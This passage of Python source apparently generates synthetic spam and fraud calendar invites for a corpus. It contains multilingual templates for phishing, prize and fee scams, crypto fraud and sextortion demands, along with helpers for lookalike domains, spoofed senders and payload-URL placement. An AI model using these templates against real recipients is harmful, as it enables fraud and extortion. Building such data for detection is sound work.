# -*- coding: utf-8 -*-
"""Spam / fraud category builders.  All wording invented for this corpus.  CC0 1.0."""
import datetime as dt

from build import (base_msg, make_event, when, fill, phone, short_url, tracking, att_list, colleagues, account,
                   org_pick)
from finish import sender_for, finalize, spam_kit_quirks
from common import alnum, hexs, digits, person, ORGS, RCPT_DOMAINS, uuid4, LANG_INFO

TLDS = ['.shop', '.top', '.xyz', '.online', '.store', '.live', '.click', '.site', '.icu', '.buzz', '.sbs', '.cfd',
        '.com', '.net', '.info', '.vip', '.life', '.cc', '.pro', '.today', '.support']


def sdom(ctx, *words, tlds=None):
    r = ctx.rng
    w = [x for x in words if x]
    base = '-'.join(w) if r.random() < 0.6 else ''.join(w)
    if r.random() < 0.5:
        base += r.choice(['', '-', '']) + r.choice([digits(r, 2), digits(r, 3), alnum(r, 3, 'abcdefghijklmnopqrstuvwxyz')])
    return base + r.choice(tlds or TLDS)


def path(ctx, n=None):
    r = ctx.rng
    return '/' + r.choice(['', 'p/', 'r/', 'c/', 's/', 'go/', 'l/', 'offer/', 'claim/', '?id=', 'index.php?u=',
                           'track/']) + alnum(r, n or r.randint(5, 12))


def others(ctx, n, spread=True):
    """Random other recipients from the same scraped list."""
    r = ctx.rng
    out = []
    for _ in range(n):
        p = person(r, ctx.lang if r.random() < 0.6 else 'en')
        if r.random() < 0.5:
            dom = ctx.rcpt_dom
        else:
            dom = r.choice(RCPT_DOMAINS[ctx.lang] + RCPT_DOMAINS['en'] + ['example.com', 'example.org'])
        loc = p['local'] if r.random() < 0.7 else p['rf'] + digits(r, r.randint(1, 4))
        out.append((None, '%s@%s' % (loc.replace('_', '.'), dom)))
    return out


def alpha_neighbours(ctx, n):
    """Address lists sorted alphabetically around the victim (harvested lists)."""
    r = ctx.rng
    loc = ctx.rcpt.split('@')[0]
    out = []
    for i in range(n):
        p = person(r, ctx.lang)
        l2 = loc[:r.randint(1, 3)] + p['rl'][:r.randint(3, 6)] + (digits(r, 2) if r.random() < 0.3 else '')
        out.append((None, '%s@%s' % (l2, ctx.rcpt_dom if r.random() < 0.7 else r.choice(RCPT_DOMAINS['en']))))
    out.sort(key=lambda x: x[1])
    return out


def spam_att(ctx, m, org, n_others=0, neighbours=False, cn=False):
    r = ctx.rng
    lst = alpha_neighbours(ctx, n_others) if neighbours else others(ctx, n_others)
    att = [dict(cn=org.get('name'), addr=org['addr'], partstat='ACCEPTED', rsvp=False)] if r.random() < 0.6 else []
    a_r = dict(cn=ctx.rcpt_name if cn else None, addr=ctx.rcpt)
    rest = [dict(cn=None, addr=a) for _, a in lst]
    pos = r.randint(0, len(rest))
    rest.insert(pos, a_r)
    return att + rest


def place(ctx, m, e, url, mode, label=None):
    """Put the payload URL somewhere in the event."""
    r = ctx.rng
    if mode == 'desc':
        return
    if mode == 'location':
        e['location'] = url if r.random() < 0.6 else '%s %s' % (label or '', url)
    elif mode == 'url':
        e['url'] = url
    elif mode == 'attach':
        e['extra'].append('ATTACH;FMTTYPE=%s;FILENAME=%s:%s' % (
            r.choice(['application/pdf', 'text/html', 'application/octet-stream']),
            (label or 'document').replace(' ', '_') + r.choice(['.pdf', '.html', '.pdf']), url))
    elif mode == 'conference':
        e['extra'].append('CONFERENCE;VALUE=URI;FEATURE=VIDEO;LABEL=%s:%s' % (label or 'Join', url))
    elif mode == 'alt':
        e['alt_desc'] = '<html><body><p>%s</p><p><a href="%s">%s</a></p></body></html>' % (
            (e.get('desc') or '').replace('\n', '<br>'), url, label or url)


def spam_sender_kinds(ctx, extra=None):
    base = [('free', 5), ('compromised', 3), ('lookalike', 3), ('vps', 2), ('spoof', 1), ('esp', 1), ('zoom', 1),
            ('edu', 1)]
    return extra or base


def std(ctx, m, e, subject=None, body=None, html=None, quirk_p=0.55, method='REQUEST'):
    """Common finish for spam."""
    m['method'] = method
    if ctx.inner in ('lib',):
        spam_kit_quirks(ctx, m, quirk_p)
    elif ctx.inner == 'saas':
        spam_kit_quirks(ctx, m, quirk_p * 0.3)
    finalize(ctx, m, subject=subject, body=body, html=html)
    return m


def saas_setup(ctx, m, prodid=None, style=None):
    r = ctx.rng
    m['saas_style'] = style or r.choice(['attach', 'inline', 'ics'])
    m['prodid'] = prodid or r.choice(['-//%s//Event//EN' % m['sender']['addr'].split('@')[1],
                                      '-//ical-gen//EN', '-//Mailer//Calendar 1.0//EN'])


def zoom_setup(ctx, m, host_name, host_mail, topic):
    m['zoom_type'] = 'webinar_registration_approved'
    m['reply_to'] = (host_name, host_mail)


def emoji(ctx, s):
    return s if ctx.rng.random() < 0.6 else s


# ================================================================ 1. retail sale waves
RETAIL_BRANDS = [('Ray-Ban', 'rb'), ('Oakley', 'oak'), ('Michael Kors', 'mk'), ('UGG', 'ugg'), ('Pandora', 'pdra'),
                 ('Nike', 'nk'), ('Coach', 'coach'), ('Adidas', 'ads'), ('Rolex', 'rlx'), ('Canada Goose', 'cgoose'),
                 ('Skechers', 'skx'), ('Le Creuset', 'lcreuset')]
RETAIL_EN = [
    dict(summ='{brand} Sunglasses {pct}% OFF - Today Only', desc='{brand} sunglasses clearance sale. All styles {price}.\n'
         'Free shipping worldwide, 7-day delivery.\nShop now: {url}', words=('rayban', 'outlet'), brands=[('Ray-Ban', 'rb'), ('Oakley', 'oak'), ('Prada', 'prd')]),
    dict(summ='Black Friday Week: {brand} bags up to {pct}% off', desc='Black Friday starts early!\n{brand} handbags & '
         'wallets from {price}. Limited stock.\n\n{url}\n\nUnsubscribe: reply STOP', words=('mk', 'bags', 'sale'), brands=[('Michael Kors', 'mk'), ('Coach', 'coach'), ('Kate Spade', 'ksp')]),
    dict(summ='{brand} Boots Outlet | {price} | Warehouse Clearance', desc='Winter is coming - {brand} classic boots '
         'now {pct}% off.\nOrder before midnight: {url}', words=('ugg', 'warehouse'), brands=[('UGG', 'ugg'), ('Canada Goose', 'cgoose'), ('Timberland', 'tbl')]),
    dict(summ='Closing-down sale: {brand} jewellery {pct}% off everything', desc='Our store is closing. Every {brand} '
         'charm, ring and bracelet must go.\nPrices from {price}\n{url}', words=('charms', 'closing'), brands=[('Pandora', 'pdra'), ('Swarovski', 'swrv')]),
    dict(summ='Flash sale ends tonight 🔥 {brand} {pct}% OFF', desc='{brand} running shoes {price}/pair, buy 2 get 1 '
         'free.\nSecure checkout: {url}', words=('run', 'shoes', 'mall'), brands=[('Nike', 'nk'), ('Adidas', 'ads'), ('Skechers', 'skx')]),
    dict(summ='Order confirmed? No - but your {brand} cart is waiting ({pct}% off)', desc='You left items in your cart. '
         'Use code SAVE{pct} at checkout.\n{url}', words=('cart', 'deals'), brands=RETAIL_BRANDS),
    dict(summ='{brand} watches - factory price {price}', desc='Swiss style {brand} watches direct from factory.\n'
         'Free gift box. PayPal accepted.\nVisit: {url}', words=('watch', 'factory'), brands=[('Rolex', 'rlx'), ('Omega', 'omg'), ('Tag Heuer', 'tagh')]),
]
RETAIL_L = {
    'zh': dict(summ='{brand}太阳镜 {pct}折清仓 今天最后一天', desc='{brand}官方授权折扣店，全场包邮。\n'
               '点击进入：{url}\n客服微信：{wx}'),
    'tw': dict(summ='【限時搶購】{brand}墨鏡 全館{pct}折 免運費', desc='{brand}正品墨鏡出清，數量有限，售完為止。\n'
               '立即選購：{url}'),
    'ja': dict(summ='【本日限定】{brand} サングラス {pct}%OFF 送料無料', desc='{brand}正規品アウトレットセール開催中！\n'
               '全品{price}～。お急ぎください。\n{url}'),
    'de': dict(summ='{brand} Sonnenbrillen -{pct}% – nur heute', desc='Räumungsverkauf: alle {brand} Modelle ab {price}.\n'
               'Kostenloser Versand.\nJetzt bestellen: {url}'),
    'fr': dict(summ='Soldes {brand} : -{pct}% sur toute la collection', desc='Lunettes {brand} à partir de {price}. '
               'Livraison gratuite en 5 jours.\nProfitez-en : {url}'),
    'es': dict(summ='Gafas {brand} -{pct}% ¡Solo hoy!', desc='Liquidación total de gafas {brand}. Desde {price}.\n'
               'Envío gratis a toda España.\nComprar ahora: {url}'),
}


def retail(ctx):
    r = ctx.rng
    m = base_msg(ctx)
    brand, bslug = r.choice(RETAIL_BRANDS[:2] + [('Prada', 'prd'), ('Gucci', 'gcc')])
    pct = r.choice([60, 70, 75, 80, 85, 88, 90])
    cur = {'en': '$', 'de': '€', 'fr': '€', 'es': '€', 'ja': '¥', 'zh': '¥', 'tw': 'NT$'}[ctx.lang]
    price = cur + (str(r.choice([19.99, 24.95, 29.9, 39, 17.5])) if cur in '$€' else str(r.choice([1980, 2980, 399, 199])))
    if ctx.lang == 'en':
        T = r.choice(RETAIL_EN)
        brand, bslug = r.choice(T['brands'])
        words = (bslug,) + T['words'][1:]
    else:
        T = RETAIL_L[ctx.lang]
        words = (bslug, r.choice(['sale', 'outlet', 'shop', 'store']))
    dom = sdom(ctx, *words)
    url = 'https://www.%s%s' % (dom, path(ctx)) if r.random() < 0.5 else 'http://%s' % dom
    if r.random() < 0.25:
        url = short_url(ctx)
    sl = dict(brand=brand, pct=pct if ctx.lang not in ('zh', 'tw') else (100 - pct) // 10, price=price, url=url,
              wx='%s%s' % (alnum(r, 4, 'abcdefghijklmnopqrstuvwxyz'), digits(r, 4)))
    summ, desc = fill(T['summ'], **sl), fill(T['desc'], **sl)
    kinds = [('free', 8), ('compromised', 2), ('vps', 3), ('lookalike', 2), ('esp', 1)]
    names = [brand + ' Outlet', brand + ' Official Store', 'Outlet Store', '', None]
    m['sender'] = sender_for(ctx, kinds)
    nm = r.choice(names)
    if nm is not None:
        m['sender']['name'] = nm
    if ctx.inner == 'saas':
        m['sender'] = account(ctx, 'esp', name=brand + ' Sale', domain=sdom(ctx, bslug, 'deals', tlds=['.com', '.shop', '.store']),
                              local=r.choice(['news', 'sale', 'info']))
    org = dict(name=m['sender']['name'], addr=m['sender']['addr'])
    start, tz = when(ctx, 0, 6, hours=(8, 22), weekend=True)
    e = make_event(ctx, m, summ, desc, start, r.choice([60, 120, 1440, 30]), tz=tz,
                   attendees=spam_att(ctx, m, org, r.randint(0, 25), neighbours=r.random() < 0.6))
    mode = r.choice(['desc', 'desc', 'location', 'url'])
    place(ctx, m, e, url, mode, brand)
    if mode != 'desc' and r.random() < 0.5:
        e['desc'] = summ
    if ctx.inner == 'saas':
        saas_setup(ctx, m)
    return std(ctx, m, e, subject=summ if ctx.inner in ('lib', 'saas') else None)


# ================================================================ 2. prize / survey / gift card lures
PRIZE_EN = [
    dict(summ='Congratulations! Your {brand} reward is ready', desc='Dear customer,\n\nYou have been selected to '
         'receive a {prize}. Complete our 30-second survey to claim it before {deadline}.\n\nClaim: {url}\n\n'
         'Ref: {code}'),
    dict(summ='(1) pending reward - {brand} Customer Appreciation', desc='As a thank-you for being a loyal {brand} '
         'shopper you can claim a {prize} today.\nOnly shipping fee {fee} applies.\n{url}'),
    dict(summ='Your {brand} points expire in 24h', desc='You have {points} points that will expire tomorrow.\nRedeem '
         'them now for a {prize}: {url}'),
    dict(summ='You\'ve won! {brand} weekly draw #{code}', desc='Your e-mail address was drawn in the {brand} weekly '
         'draw.\nPrize: {prize}\nConfirm delivery details: {url}'),
    dict(summ='Quick survey - receive a {prize}', desc='Hi,\nWe value your feedback about {brand}. Answer 4 questions and '
         'receive a {prize}.\nStart survey: {url}\nThis invitation is personal and expires {deadline}.'),
    dict(summ='Final notice: unclaimed {prize}', desc='This is the last reminder. Your {prize} from {brand} has not been '
         'claimed yet. After {deadline} it will be given to another participant.\n\n{url}'),
]
PRIZE_BR = [('Costco', '$500 gift card'), ('Walmart', '$1,000 gift card'), ('Amazon', 'Apple iPhone 15 Pro'),
            ('Kohl\'s', '$250 voucher'), ('Lowe\'s', 'Ninja air fryer'), ('Tesco', '£500 shopping voucher'),
            ('Dick\'s Sporting Goods', 'Yeti cooler set'), ('Starbucks', '$100 gift card'),
            ('T-Mobile', 'Samsung Galaxy S24'), ('Lidl', '£300 voucher'), ('Harbor Freight', 'DeWalt tool kit')]
PRIZE_L = {
    'pt': dict(summ='Parabéns! Você ganhou um {prize} do {brand}', desc='Olá,\nSeu e-mail foi sorteado na promoção '
               'de aniversário do {brand}. Responda a pesquisa rápida e pague apenas o frete de {fee}.\nResgatar: {url}',
               br=('Magazine Luiza', 'Smart TV 55"'), fee='R$ 14,90'),
    'nl': dict(summ='Gefeliciteerd! U maakt kans op een {prize}', desc='Beste klant,\n{brand} bestaat 25 jaar. Vul de '
               'korte enquête in en ontvang een {prize}.\nVerzendkosten: {fee}\nDeelnemen: {url}',
               br=('Albert Heijn', 'cadeaukaart van €500'), fee='€ 1,95'),
    'pl': dict(summ='Gratulacje! Nagroda {brand} czeka na odbiór', desc='Twój adres został wylosowany. Wypełnij '
               'ankietę i odbierz {prize}.\nKoszt wysyłki tylko {fee}.\nOdbierz nagrodę: {url}',
               br=('Biedronka', 'bon o wartości 1000 zł'), fee='9,99 zł'),
    'it': dict(summ='Congratulazioni! Hai vinto un {prize}', desc='Gentile cliente,\nsei stato selezionato da {brand} '
               'per ricevere un {prize}. Completa il sondaggio entro oggi.\nSpese di spedizione: {fee}\n{url}',
               br=('Esselunga', 'buono spesa da 500€'), fee='2,00 €'),
    'ar': dict(summ='مبروك! لقد ربحت {prize} من {brand}', desc='عزيزي العميل،\nتم اختيار بريدك الإلكتروني للفوز '
               'بـ {prize}. أجب على استبيان قصير واستلم جائزتك اليوم.\nرسوم الشحن فقط {fee}\n{url}',
               br=('كارفور', 'بطاقة هدايا بقيمة 1000 ريال'), fee='5 ريال'),
    'th': dict(summ='ยินดีด้วย! คุณได้รับรางวัล {prize} จาก {brand}', desc='เรียนลูกค้า\nอีเมลของคุณได้รับเลือกให้รับ '
               '{prize} กรุณาตอบแบบสอบถามสั้นๆ เพื่อรับรางวัลภายในวันนี้\nค่าจัดส่ง {fee}\n{url}',
               br=('Lotus\'s', 'บัตรกำนัล 5,000 บาท'), fee='49 บาท'),
}


def prize(ctx):
    r = ctx.rng
    m = base_msg(ctx)
    dl = (ctx.arrival + dt.timedelta(days=r.randint(1, 3))).strftime('%d/%m/%Y')
    code = '%s-%s' % (digits(r, 4), alnum(r, 4, 'ABCDEFGHJKLMNPQRSTUVWXYZ'))
    if ctx.lang == 'en':
        T = r.choice(PRIZE_EN)
        brand, pz = r.choice(PRIZE_BR)
        fee = r.choice(['$1.95', '$2.00', '£1.99', '$4.95'])
    else:
        T = PRIZE_L[ctx.lang]
        brand, pz = T['br']
        fee = T['fee']
    bs = ''.join(c for c in brand.lower() if c.isascii() and c.isalnum()) or 'reward'
    dom = sdom(ctx, r.choice(['reward', 'prize', 'gift', 'survey', 'win']), r.choice(['center', 'hub', 'zone', 'claim', '']))
    url = r.choice(['https://%s%s' % (dom, path(ctx)), short_url(ctx),
                    'https://storage.googleapis.com/%s/index.html#%s' % (alnum(r, 10, 'abcdefghijklmnopqrstuvwxyz'), alnum(r, 8)),
                    'https://%s.web.app/?cid=%s' % (alnum(r, 9, 'abcdefghijklmnopqrstuvwxyz'), digits(r, 6))])
    sl = dict(brand=brand, prize=pz, url=url, deadline=dl, code=code, fee=fee, points=r.randint(2000, 90000))
    summ, desc = fill(T['summ'], **sl), fill(T['desc'], **sl)
    m['sender'] = sender_for(ctx, [('free', 6), ('compromised', 3), ('edu', 2), ('vps', 2), ('spoof', 1)])
    if r.random() < 0.6:
        m['sender']['name'] = r.choice([brand, brand + ' Rewards', '%s Customer Care' % brand, 'Rewards Team'])
    if ctx.inner == 'saas':
        m['sender'] = account(ctx, 'esp', name=brand + ' Rewards', domain=sdom(ctx, bs, 'rewards', tlds=['.com', '.net', '.co']),
                              local='rewards')
    org = dict(name=m['sender']['name'], addr=m['sender']['addr'])
    start, tz = when(ctx, 0, 3, hours=(7, 21), weekend=True)
    e = make_event(ctx, m, summ, desc, start, r.choice([15, 30, 60]), tz=tz,
                   attendees=spam_att(ctx, m, org, r.choice([0, 0, 3, 8, 40])))
    mode = r.choice(['desc', 'desc', 'location', 'alt', 'url'])
    if mode in ('location', 'url', 'alt'):
        e['desc'] = desc.replace(url, '').replace('\n\n\n', '\n\n') if r.random() < 0.5 else desc
    place(ctx, m, e, url, mode, 'Claim')
    if ctx.inner == 'saas':
        saas_setup(ctx, m)
    return std(ctx, m, e, subject=summ)


# ================================================================ 3. crypto / investment fraud
CRYPTO_EN = [
    dict(summ='Withdrawal pending: {btc} BTC', desc='Your account has a pending withdrawal of {btc} BTC (~{usd} USD).\n'
         'To release the funds, log in and confirm your wallet within 24 hours.\n{url}\nCase ID: {code}'),
    dict(summ='Private webinar: AI trading bot - {pct}% monthly', desc='Join our closed session where our analysts show '
         'the AI arbitrage bot live.\nMinimum deposit only $250. Seats are limited.\nRegister: {url}'),
    dict(summ='Re: our chat about the gold/crypto plan', desc='Hi dear, it was nice talking with you. As promised, here '
         'is the time for our next lesson. Please download the trading app from {url} and create your account before '
         'the call. My assistant can help on WhatsApp {phone}.\nLinda'),
    dict(summ='Unclaimed airdrop: {token} tokens allocated to your wallet', desc='{amount} {token} were allocated to '
         'early users. Connect your wallet to claim before the snapshot closes.\n{url}'),
    dict(summ='Quarterly portfolio review - {fund}', desc='Dear investor,\nYour guaranteed-return account at {fund} is '
         'due for review. Current balance: {usd} USD. Please schedule a call with your account manager or log in to '
         'reinvest: {url}'),
    dict(summ='Your {exch} account: {btc} BTC received', desc='A deposit of {btc} BTC has been credited to your {exch} '
         'account. Verify ownership to unlock withdrawals.\n{url}\nIf you did not expect this, contact support: {phone}'),
]
CRYPTO_L = {
    'ru': dict(summ='Вывод средств: {btc} BTC ожидает подтверждения', desc='На вашем счёте ожидает вывод {btc} BTC '
               '(≈ {usd} USD).\nПодтвердите кошелёк в течение 24 часов: {url}\nНомер заявки: {code}'),
    'ko': dict(summ='[VIP 리딩방] AI 자동매매 무료 체험 안내', desc='안녕하세요. 월 {pct}% 수익 인증 AI 자동매매 '
               '프로그램 무료 체험 일정입니다.\n참여 신청: {url}\n카카오톡 오픈채팅 문의 가능'),
    'tr': dict(summ='Kripto kazanç fırsatı: {pct}% aylık getiri', desc='Sayın yatırımcı,\nYapay zekâ destekli '
               'yatırım platformumuzda hesabınız açıldı. Bakiyeniz: {usd} USD.\nÇekim için giriş yapın: {url}'),
    'he': dict(summ='הזדמנות השקעה: תשואה של {pct}% בחודש', desc='שלום,\nנבחרת להצטרף לקבוצת משקיעים סגורה. '
               'פלטפורמת המסחר שלנו משתמשת בבינה מלאכותית.\nהרשמה: {url}\nווטסאפ: {phone}'),
    'hi': dict(summ='क्रिप्टो निवेश सेमिनार – {pct}% मासिक लाभ', desc='नमस्ते,\nहमारे विशेष ऑनलाइन सत्र में '
               'शामिल हों। सिर्फ ₹5,000 से शुरुआत करें।\nरजिस्टर करें: {url}\nव्हाट्सऐप: {phone}'),
    'de': dict(summ='Ihre Bitcoin-Auszahlung ({btc} BTC) ist bereit', desc='Guten Tag,\nauf Ihrem Konto liegt eine '
               'Auszahlung von {btc} BTC (ca. {usd} EUR) bereit. Bitte bestätigen Sie Ihre Wallet innerhalb von 24 '
               'Stunden: {url}\nVorgangsnummer: {code}'),
}


def crypto(ctx):
    r = ctx.rng
    m = base_msg(ctx)
    btc = '%.4f' % r.uniform(0.2, 3.5)
    sl = dict(btc=btc, usd='{:,}'.format(r.randint(9000, 190000)), pct=r.choice([18, 25, 30, 42, 60, 120, 300]),
              code=alnum(r, 10, 'ABCDEFGHJKLMNPQRSTUVWXYZ0123456789'),
              token=r.choice(['ARB2', 'PEPE2', 'SUIX', 'LayerZ', 'BLSTX']), amount='{:,}'.format(r.randint(1500, 90000)),
              fund=r.choice(['Crestmoor Capital', 'Atlas Quant Partners', 'Greyline Asset Mgmt', 'Norvane Digital Fund']),
              exch=r.choice(['Coinbase', 'Binance', 'Kraken', 'Crypto.com']),
              phone='+%d %s' % (r.choice([1, 44, 852, 65, 971]), digits(r, 10)))
    if ctx.lang == 'en':
        T = r.choice(CRYPTO_EN)
    else:
        T = CRYPTO_L[ctx.lang]
    dom = sdom(ctx, r.choice(['coin', 'btc', 'quant', 'trade', 'chain', 'wallet', 'defi']),
               r.choice(['pro', 'hub', 'x', 'ai', 'fx', 'cap', 'verify']))
    url = r.choice(['https://%s%s' % (dom, path(ctx)), 'https://app.%s/login' % dom, 'https://%s/#/register?code=%s' % (dom, digits(r, 6))])
    sl['url'] = url
    summ, desc = fill(T['summ'], **sl), fill(T['desc'], **sl)
    if ctx.inner == 'zoom':
        hp = person(r, ctx.lang)
        m['sender'] = account(ctx, 'zoom', name=r.choice(['%s Academy' % sl['fund'].split()[0], hp['name']]))
        start, tz = when(ctx, 1, 8, hours=(18, 21), weekend=True)
        e = make_event(ctx, m, summ, desc, start, 90, tz=tz, organizer=dict(name=m['sender']['name'], addr='%s@%s' % (hp['local'], r.choice(['gmail.com', 'outlook.com', dom]))),
                       attendees=[dict(cn=ctx.rcpt_name, addr=ctx.rcpt)], uid=None)
        zid = digits(r, 11)
        zurl = 'https://us06web.zoom.us/w/%s?tk=%s' % (zid, alnum(r, 43))
        e['location'] = zurl
        body = 'Hi %s,\n\nThank you for registering for "%s".\n\nPlease submit any questions to: %s\n\nDate Time: %s\n\n' \
               'Join from PC, Mac, Linux, iOS or Android: %s\nPasscode: %s\n\n%s\n\nYou can cancel your registration at any time.\n' % (
                   ctx.rcpt_name.split()[0], summ, e['organizer']['addr'], e['start'].strftime('%b %d, %Y %I:%M %p'),
                   zurl, digits(r, 6), desc)
        zoom_setup(ctx, m, *e['organizer'].values(), summ)
        e['desc'] = body
        return std(ctx, m, e, subject='%s Confirmation' % summ, body=body)
    m['sender'] = sender_for(ctx, [('free', 6), ('lookalike', 3), ('compromised', 2), ('vps', 2)],
                             domains={'lookalike': dom, 'vps': dom})
    if r.random() < 0.5:
        m['sender']['name'] = r.choice([sl['exch'] + ' Support', sl['fund'], 'Wallet Security', m['sender']['name']])
    if ctx.inner == 'saas':
        m['sender'] = account(ctx, 'esp', name=sl['fund'], domain=dom.rsplit('.', 1)[0] + '.com', local='investor')
    org = dict(name=m['sender']['name'], addr=m['sender']['addr'])
    start, tz = when(ctx, 0, 10, hours=(8, 21), weekend=True)
    e = make_event(ctx, m, summ, desc, start, r.choice([30, 60, 90]), tz=tz,
                   attendees=spam_att(ctx, m, org, r.choice([0, 0, 2, 12])))
    mode = r.choice(['desc', 'desc', 'location', 'conference', 'alt'])
    place(ctx, m, e, url, mode, 'Trading room')
    if ctx.inner == 'saas':
        saas_setup(ctx, m)
    return std(ctx, m, e, subject=summ)


# ================================================================ 4. dating / sextortion
DATING_EN = [
    dict(summ='{girl} ({age}) wants to meet you tonight', desc='Hi handsome 😘 I saw your profile and I think we would '
         'get along. I am free tonight, my photos are here: {url}\nDon\'t make me wait... {girl}', kind='dating'),
    dict(summ='You have 3 new private messages', desc='{girl}, {age}, {dist} km from you sent you a private photo.\n'
         'Open your inbox (free registration): {url}', kind='dating'),
    dict(summ='Payment deadline', desc='I know about your secret. I had access to your device for some months and I '
         'recorded you through the camera while you were visiting adult websites.\n\nIf you do not want this video '
         'sent to all your contacts, transfer {usd} USD in Bitcoin to this wallet:\n{wallet}\n\nYou have 48 hours from '
         'this reminder. Do not reply, this address is not monitored.', kind='sext'),
    dict(summ='Your password {pw} - read this', desc='I know {pw} is one of your passwords. I installed software on '
         'the adult site you visited and it recorded your screen and webcam.\nSend {usd} USD (BTC) to {wallet}. '
         'When payment arrives the files are deleted. Countdown started.', kind='sext'),
    dict(summ='Coffee date? ☕', desc='Hey, it\'s {girl} from the app - my account there got blocked so I moved here: '
         '{url}\nLet\'s chat there, I\'ll wait 😊', kind='dating'),
    dict(summ='Confirm your free membership - {site}', desc='{girl} liked your profile. Confirm your age (18+) to see '
         'her full profile and start chatting: {url}', kind='dating'),
]
DATING_L = {
    'fr': dict(summ='{girl} ({age} ans) veut te rencontrer ce soir', desc='Coucou 😘 j\'ai vu ton profil, je suis '
               'libre ce soir. Mes photos privées sont ici : {url}\nÀ tout de suite, {girl}'),
    'el': dict(summ='Προθεσμία πληρωμής', desc='Έχω πρόσβαση στη συσκευή σας εδώ και μήνες και έχω καταγράψει βίντεο '
               'από την κάμερά σας. Αν δεν θέλετε να σταλεί σε όλες τις επαφές σας, στείλτε {usd} USD σε Bitcoin στο '
               'πορτοφόλι:\n{wallet}\nΈχετε 48 ώρες.'),
    'ja': dict(summ='{girl}さんからメッセージが届いています', desc='はじめまして、{girl}です♡ 近くに住んでいるみたい'
               'なので、今夜会えませんか？写真はこちら→ {url}\n無料登録で続きが読めます'),
    'ru': dict(summ='Последнее предупреждение', desc='Я получил доступ к вашему устройству и записал видео с вашей '
               'камеры. Переведите {usd} USD в биткоинах на кошелёк:\n{wallet}\nУ вас 48 часов. Не отвечайте на это '
               'письмо.'),
    'es': dict(summ='{girl} ({age}) quiere conocerte hoy', desc='Hola guapo 😘 vi tu perfil y me gustaste. Estoy libre '
               'esta noche, mis fotos aquí: {url}\nBesos, {girl}'),
}


def dating(ctx):
    r = ctx.rng
    m = base_msg(ctx)
    girls = {'en': ['Jessica', 'Anna', 'Kristina', 'Emily', 'Vika', 'Sandra'], 'fr': ['Léa', 'Julie', 'Manon'],
             'ja': ['ゆい', 'さくら', 'みほ'], 'es': ['Lucía', 'Carla', 'Daniela'], 'el': [''], 'ru': ['']}
    wallet = r.choice(['bc1q', '1', '3']) + alnum(r, 38 if r.random() < 0.5 else 33, 'abcdefghijkmnpqrstuvwxyz023456789')
    sl = dict(girl=r.choice(girls[ctx.lang]), age=r.randint(21, 34), dist=r.randint(1, 9), usd=r.choice([950, 1200, 1350, 1650, 2000]),
              wallet=wallet, pw=r.choice(['sunshine77', 'Liverpool1', 'qwerty2019', 'Monkey!23', 'anna1984']),
              site=r.choice(['LoveMeet', 'SecretFlirt', 'HotLocals']))
    dom = sdom(ctx, r.choice(['flirt', 'meet', 'date', 'love', 'hot', 'singles']), r.choice(['local', 'now', 'chat', 'girls', '']))
    url = r.choice(['https://%s%s' % (dom, path(ctx)), short_url(ctx), 'https://t.me/%s_%s' % (sl['girl'].lower() or 'anna', digits(r, 3))])
    sl['url'] = url
    if ctx.lang == 'en':
        T = r.choice(DATING_EN)
    else:
        T = DATING_L[ctx.lang]
    summ, desc = fill(T['summ'], **sl), fill(T['desc'], **sl)
    sext = 'wallet' in T['desc']
    if sext:
        m['sender'] = sender_for(ctx, [('free', 3), ('vps', 3), ('spoof', 2), ('compromised', 2)],
                                 domains={'spoof': ctx.rcpt_dom, 'vps': None}, local=ctx.rcpt.split('@')[0] if r.random() < 0.6 else None)
        if m['sender']['kind'] == 'spoof':
            m['sender']['name'] = ''
    else:
        m['sender'] = sender_for(ctx, [('free', 7), ('compromised', 2), ('vps', 2)])
        m['sender']['name'] = sl['girl'] or m['sender']['name']
    org = dict(name=m['sender']['name'], addr=m['sender']['addr'])
    start, tz = when(ctx, 0, 2, hours=(19, 23), weekend=True)
    e = make_event(ctx, m, summ, desc, start, r.choice([30, 60, 120]), tz=tz,
                   attendees=spam_att(ctx, m, org, r.choice([0, 0, 0, 5])))
    if sext:
        e['alarms'] = [dict(trigger='-PT%dH' % h, desc=summ) for h in (24, 12, 6, 1)] if r.random() < 0.6 else e['alarms']
    else:
        place(ctx, m, e, url, r.choice(['desc', 'location', 'url']), 'Photos')
    return std(ctx, m, e, subject=summ)


# ================================================================ 5. fee scams (delivery, toll, tax, fines)
FEE_EN = [
    dict(summ='USPS: Delivery attempt failed - schedule redelivery', desc='Your package {trk} could not be delivered '
         'because of an incomplete address.\nPlease confirm your address and pay the redelivery fee of $1.99 by '
         '{date}: {url}', brand='USPS'),
    dict(summ='Unpaid toll notice - {amt} due', desc='Our records show an unpaid toll of {amt} for your vehicle.\nTo '
         'avoid a late fee of $50.00 and possible suspension of your registration, pay by {date}:\n{url}', brand='E-ZPass'),
    dict(summ='HMRC: You are eligible for a tax refund of £{refund}', desc='After the annual calculation of your fiscal '
         'activity we have determined that you are eligible to receive a tax refund of £{refund}.\nSubmit the form '
         'before {date}: {url}', brand='HMRC'),
    dict(summ='Royal Mail: Your parcel is on hold (fee £2.99)', desc='We have a parcel for you. A £2.99 settlement '
         'fee must be paid before we can deliver.\nTracking: {trk}\nPay & reschedule: {url}', brand='Royal Mail'),
    dict(summ='DHL Express: customs duty payment required', desc='Shipment {trk} is held at customs.\nImport duty: '
         '{amt}\nPay online within 48 hours or the shipment will be returned: {url}', brand='DHL Express'),
    dict(summ='Traffic violation notice #{code}', desc='A speed camera recorded your vehicle on {date}. Fine: {amt}.\n'
         'View the photo evidence and pay online to avoid court proceedings: {url}', brand='DMV Notice'),
    dict(summ='FedEx: package awaiting address confirmation', desc='Hello, your FedEx package {trk} is waiting at the '
         'local facility. Confirm your details to arrange delivery: {url}', brand='FedEx'),
]
FEE_L = {
    'nl': dict(summ='PostNL: uw pakket kan niet worden bezorgd', desc='Uw pakket {trk} staat klaar, maar er zijn nog '
               'verzendkosten van € 1,99 verschuldigd.\nBetaal vóór {date} via: {url}', brand='PostNL'),
    'pt': dict(summ='Correios: sua encomenda foi taxada', desc='Sua encomenda {trk} está aguardando pagamento da taxa '
               'de importação de R$ {refund},90.\nEvite a devolução, pague até {date}: {url}', brand='Correios'),
    'fr': dict(summ='Avis de contravention n°{code}', desc='Votre véhicule a fait l\'objet d\'un avis de contravention. '
               'Montant : 35,00 €. Au-delà de {date}, le montant sera majoré à 75,00 €.\nPayer en ligne : {url}',
               brand='ANTAI'),
    'ja': dict(summ='【ETC利用照会サービス】未払い料金のお知らせ', desc='ETC利用料金のお支払いが確認できておりません。'
               '{date}までにお支払いがない場合、ETCカードの利用を停止いたします。\nお支払い手続き：{url}',
               brand='ETC利用照会サービス'),
